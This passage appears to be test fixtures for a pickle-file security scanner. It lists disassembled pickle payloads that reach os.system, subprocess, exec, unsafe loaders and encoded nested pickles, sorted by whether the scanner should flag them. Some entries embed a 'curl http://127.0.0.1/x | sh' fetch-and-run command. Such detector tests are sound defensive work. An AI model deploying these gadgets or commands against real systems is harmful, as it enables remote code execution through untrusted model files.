        f"PROTO 4\n{called('cloudpickle.cloudpickle', '_builtin_type', 'FunctionType')}"
        "EMPTY_TUPLE\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "result of a harmless function, called": (
        f"PROTO 4\nGLOBAL 'copy copy'\nGLOBAL 'mine.tools run'\nTUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "item of a list, called": (
        "PROTO 4\nGLOBAL 'builtins max'\nGLOBAL 'mine.tools run'\nTUPLE1\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
}

WRAPPERS: Final = {
    "partial": f"PROTO 2\nGLOBAL 'functools partial'\n{SYSTEM}TUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP",
    "partial, not called": f"PROTO 2\nGLOBAL 'functools partial'\n{SYSTEM}TUPLE1\nREDUCE\nSTOP",
    "partial of a lookup": (
        f"PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins getattr'\n{ALIAS}"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}TUPLE2\nREDUCE\nSTOP"
    ),
    "partial with its function in the state": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins int'\nTUPLE1\nREDUCE\n"
        f"MARK\n{SYSTEM}EMPTY_TUPLE\nEMPTY_DICT\nNONE\nTUPLE\nBUILD\n{GIVEN}REDUCE\nSTOP"
    ),
    "partial with an unlisted function in the state": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins int'\nTUPLE1\nREDUCE\n"
        "MARK\nGLOBAL 'mine.tools run'\nBINUNICODE 'curl http://127.0.0.1/x | sh'\nTUPLE1\n"
        "EMPTY_DICT\nNONE\nTUPLE\nBUILD\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "partial of a methodcaller behind a decoy": (
        "PROTO 4\nGLOBAL 'functools partial'\nBINPUT 0\nGLOBAL 'mine.tools nothing'\nTUPLE1\n"
        "REDUCE\nEMPTY_TUPLE\nREDUCE\nPOP\nBINGET 0\nGLOBAL 'operator methodcaller'\n"
        f"BINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\n{ALIAS}TUPLE2\nREDUCE\n"
        "EMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "map": (
        "PROTO 2\nGLOBAL 'builtins list'\nGLOBAL 'builtins map'\n"
        f"{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "map of a methodcaller": (
        "PROTO 2\nGLOBAL 'builtins list'\nGLOBAL 'builtins map'\n"
        "GLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\n"
        f"REDUCE\n{ALIAS}TUPLE1\nTUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "filter": f"PROTO 2\nGLOBAL 'builtins filter'\n{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "starmap": f"PROTO 2\nGLOBAL 'itertools starmap'\n{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "reduce": (
        "PROTO 2\nGLOBAL 'functools reduce'\nGLOBAL 'builtins getattr'\n"
        f"{ALIAS}BINUNICODE 'system'\nTUPLE2\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "finalize": f"PROTO 2\nGLOBAL 'weakref finalize'\nGLOBAL 'os path'\n{SYSTEM}{GIVEN}TUPLE3\nREDUCE\nSTOP",
    "atexit": f"PROTO 2\nGLOBAL 'atexit register'\n{SYSTEM}BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP",
    "atexit with an unlisted function": (
        "PROTO 2\nGLOBAL 'atexit register'\nGLOBAL 'mine.tools run'\nTUPLE1\nREDUCE\nSTOP"
    ),
    "thread": "PROTO 2\nGLOBAL 'threading Thread'\nNONE\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "timer": "PROTO 2\nGLOBAL 'threading Timer'\nBININT1 1\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "signal": "PROTO 2\nGLOBAL 'signal signal'\nBININT1 2\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "exit stack": (
        "PROTO 4\n"
        + named("contextlib", "ExitStack.callback")
        + "EMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "context run": f"PROTO 4\n{named('_contextvars', 'Context.run')}{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "defaultdict of a computed function": (
        f"PROTO 2\nGLOBAL 'collections defaultdict'\nGLOBAL 'mine.tools get'\n{GIVEN}REDUCE\n"
        "TUPLE1\nREDUCE\nSTOP"
    ),
    "reconstructor": (
        "PROTO 2\nGLOBAL 'copyreg __newobj__'\nGLOBAL 'subprocess Popen'\n"
        "BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "tensor type reconstructor": (
        "PROTO 2\nGLOBAL 'torch._tensor _rebuild_from_type_v2'\nGLOBAL 'mine.tools run'\n"
        "GLOBAL 'torch Tensor'\nBINUNICODE 'curl http://127.0.0.1/x | sh'\nTUPLE1\n"
        "EMPTY_DICT\nMARK\nTUPLE\nPOP\nTUPLE3\nREDUCE\nSTOP"
    ),
    "operator.call": f"PROTO 2\nGLOBAL '_operator call'\n{SYSTEM}BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP",
    "applier of a computed function": (
        f"PROTO 2\nGLOBAL 'builtins map'\nGLOBAL 'mine.tools get'\n{GIVEN}REDUCE\n"
        f"{GIVEN}TUPLE2\nREDUCE\nSTOP"
    ),
}

NESTED: Final = {
    "loads of bytes": (
        "PROTO 3\nGLOBAL '_pickle loads'\n"
        r"BINBYTES b'\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R.'"
        "\nTUPLE1\nREDUCE\nSTOP"
    ),
    "loads of loads": (
        "PROTO 3\nGLOBAL 'pickle loads'\nBINBYTES "
        r"b'\x80\x03c_pickle\nloads\nC\x17cos\nsystem\nX\x04\x00\x00\x00true\x85R.\x85R.'"
        "\nTUPLE1\nREDUCE\nSTOP"
    ),
    "torch storage": (
        "PROTO 3\nGLOBAL 'torch.storage _load_from_bytes'\n"
        r"BINBYTES b'\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R.'"
        "\nTUPLE1\nREDUCE\nSTOP"
    ),
    "loads of text in latin1": (
        "PROTO 2\nGLOBAL '_pickle loads'\nGLOBAL '_codecs encode'\n"
        "BINUNICODE 'cos\\nsystem\\n(Vtrue\\ntR.'\nBINUNICODE 'latin1'\nTUPLE2\nREDUCE\n"
        "TUPLE1\nREDUCE\nSTOP"
    ),
    "loads of base64": (
        "PROTO 3\nGLOBAL '_pickle loads'\nGLOBAL 'base64 b64decode'\n"
        "BINUNICODE 'Y29zCnN5c3RlbQooVnRydWUKdFIu'\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "loads of zlib": (
        "PROTO 3\nGLOBAL '_pickle loads'\nGLOBAL 'zlib decompress'\nSHORT_BINBYTES b'x'\n"
        "TUPLE1\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "marshal of zlib": (
        "PROTO 3\nGLOBAL 'builtins exec'\nGLOBAL 'marshal loads'\nGLOBAL 'zlib decompress'\n"
        "SHORT_BINBYTES b'x'\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "exec of base64": (
        "PROTO 3\nGLOBAL 'builtins exec'\nGLOBAL 'base64 b64decode'\nBINUNICODE 'cGFzcw=='\n"
        "TUPLE1\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "load of a path": "PROTO 2\nGLOBAL 'joblib load'\nBINUNICODE '/tmp/x'\nTUPLE1\nREDUCE\nSTOP",
    "load of a URL": (
        "PROTO 2\nGLOBAL 'torch.hub load_state_dict_from_url'\nBINUNICODE 'http://127.0.0.1/x'\n"
        "TUPLE1\nREDUCE\nSTOP"
    ),
    "load of a file object": (
        "PROTO 3\nGLOBAL '_pickle load'\nGLOBAL '_io BytesIO'\n"
        r"BINBYTES b'cos\nsystem\n(Vtrue\ntR.'"
        "\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "unpickler's method": (
        f"PROTO 4\n{named('builtins', 'getattr')}{named('pickle', '_Unpickler')}"
        f"{named('_io', 'BytesIO')}SHORT_BINBYTES b'N.'\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\n"
        "BINUNICODE 'load'\nTUPLE2\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "numpy load": "PROTO 2\nGLOBAL 'numpy load'\nBINUNICODE 'x.npy'\nTUPLE1\nREDUCE\nSTOP",
    "yaml load": "PROTO 2\nGLOBAL 'yaml unsafe_load'\nBINUNICODE 'x: 1'\nTUPLE1\nREDUCE\nSTOP",
}

ALLOWED_NAMES: Final = {
    "distribution with another template": (
        "PROTO 2\nGLOBAL 'scipy.stats._continuous_distns norm_gen'\nEMPTY_TUPLE\nNEWOBJ\n"
        "EMPTY_DICT\nBINUNICODE '_parse_arg_template'\nBINUNICODE 'print(1)'\nSETITEM\n"
        "BUILD\nSTOP"
    ),
    "class patched behind a copy": (
        "PROTO 2\nGLOBAL 'copy copy'\nGLOBAL 'collections OrderedDict'\nTUPLE1\nREDUCE\n"
        "NONE\nEMPTY_DICT\nBINUNICODE 'update'\nGLOBAL 'builtins print'\nSETITEM\nTUPLE2\n"
        "BUILD\nSTOP"
    ),
    "memory map of a file": (
        "PROTO 4\n" + called("numpy", "memmap", "/tmp/x", "uint8", "w+") + "STOP"
    ),
    "memory map by its private name": (
        "PROTO 4\n"
        + called("numpy._core.memmap", "memmap", "/tmp/x", "uint8", "w+")
        + "STOP"
    ),
    "pandas query": called("pandas.core.frame", "DataFrame.query", "@x") + "STOP",
    "path written": (
        f"PROTO 4\n{named('pathlib', 'PosixPath.write_text')}{called('pathlib', 'PosixPath', 'x')}"
        "BINUNICODE 'x'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "path written, looked up": (
        f"PROTO 4\n{named('builtins', 'getattr')}{called('pathlib', 'PosixPath', 'x')}"
        "BINUNICODE 'write_text'\nTUPLE2\nREDUCE\nBINUNICODE 'x'\nTUPLE1\nREDUCE\nSTOP"
    ),
    "logger with a file": called("logging", "FileHandler", "/tmp/x") + "STOP",
    "type with a planted method": (
        "PROTO 2\nGLOBAL 'builtins type'\nBINUNICODE 'X'\nEMPTY_TUPLE\nEMPTY_DICT\n"
        "BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nSETITEM\nTUPLE3\nREDUCE\n"
        "EMPTY_TUPLE\nNEWOBJ\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "forward reference": called("typing", "ForwardRef._evaluate", "__import__('os')")
    + "STOP",
    "graph module with code": (
        "PROTO 2\nGLOBAL 'torch.fx.graph_module reduce_graph_module'\nEMPTY_DICT\n"
        "BINUNICODE '_code'\nBINUNICODE 'import os\\nos.system(\"true\")'\nSETITEM\n"
        "BINUNICODE ''\nTUPLE2\nREDUCE\nSTOP"
    ),
    "unlisted function of numpy": called("numpy.testing", "assert_", "x") + "STOP",
    "unlisted function of torch": (
        called("torch._appdirs", "_get_win_folder_from_registry", "x") + "STOP"
    ),
    "downloader of sklearn": called("sklearn.datasets", "fetch_openml", "x") + "STOP",
    "loader of sklearn": called("sklearn.datasets", "load_files", "/tmp") + "STOP",
    "unlisted function of joblib": (
        called("joblib.externals.loky.backend.spawn", "prepare", "x") + "STOP"
    ),
}

FLAGGED: Final = {
    "protocols": PROTOCOLS,
    "streams": STREAMS,
    "names": NAMES,
    "calls": CALLS,
    "resolvers": RESOLVERS,
    "wrappers": WRAPPERS,
    "nested": NESTED,
    "allowed names": ALLOWED_NAMES,
}

REVIEWED: Final = {
    "pickle in bytes that nothing loads": (
        "PROTO 3\nBINBYTES b'cos\\nsystem\\n(Vtrue\\ntR.'\nSTOP"
    ),
    "newer pickle in short bytes that nothing loads": (
        "PROTO 4\nSHORT_BINBYTES b'\\x80\\x04cos\\nsystem\\n\\x8c\\x04true\\x85R.'\nSTOP"
    ),
    "pickle in a byte array that nothing loads": (
        "PROTO 5\nBYTEARRAY8 b'(Vtrue\\nios\\nsystem\\n.'\nSTOP"
    ),
    "cloudpickle builtin type": (
        f"PROTO 4\n{called('cloudpickle.cloudpickle', '_builtin_type', 'CodeType')}"
        "EMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "format string that reaches out": (
        "PROTO 4\n" + called("builtins", "str.format", "{0.__class__}", "x") + "STOP"
    ),
    "defaultdict that calls an unlisted function": (
        "PROTO 2\nGLOBAL 'operator getitem'\nGLOBAL 'collections defaultdict'\n"
        "GLOBAL 'mine.tools run'\nTUPLE1\nREDUCE\nBINUNICODE 'x'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "unlisted class": "PROTO 2\nGLOBAL 'mine.models Net'\nEMPTY_TUPLE\nNEWOBJ\nSTOP",
    "unlisted function": "PROTO 2\nGLOBAL 'mine.models make'\nBININT1 1\nTUPLE1\nREDUCE\nSTOP",
    "unlisted name of the standard library": "GLOBAL 'sndhdr what'\nSTOP",
    "resolver only named": "GLOBAL 'builtins getattr'\nSTOP",
    "nested loader only named": "GLOBAL 'joblib load'\nSTOP",
    "extension code only named": "PROTO 2\nEXT1 7\nSTOP",
    "persistent id": "PERSID 'x'\nSTOP",
    "bytes behind the stream": f"PROTO 2\nNONE\nSTOP\n{raw(b'?' * 99)}",
    "odd codec, unused": "PROTO 4\n"
    + called("_codecs", "encode", "x", "rot13")
    + "STOP",
    "carried code, not called": (
        "PROTO 2\nGLOBAL 'types FunctionType'\nGLOBAL 'types CodeType'\nEMPTY_TUPLE\n"
        "REDUCE\nEMPTY_DICT\nTUPLE2\nREDUCE\nSTOP"
    ),
}

SILENT: Final = {
    "pickle in text": "PROTO 3\nBINUNICODE 'cos\\nsystem\\n(Vtrue\\ntR.'\nSTOP",
    "shared list of 40 levels": (
        "PROTO 2\nEMPTY_LIST\nBINPUT 0\nPOP\n"
        + "".join(
            f"EMPTY_LIST\nBINPUT {n + 1}\nBINGET {n}\nAPPEND\nBINGET {n}\nAPPEND\nPOP\n"
            for n in range(40)
        )
        + "BINGET 40\nSTOP"
    ),
    "bytes of python 2 as text": r"""RAW b"S'\\xff\\xfe'\n" """ + "\nSTOP",
}
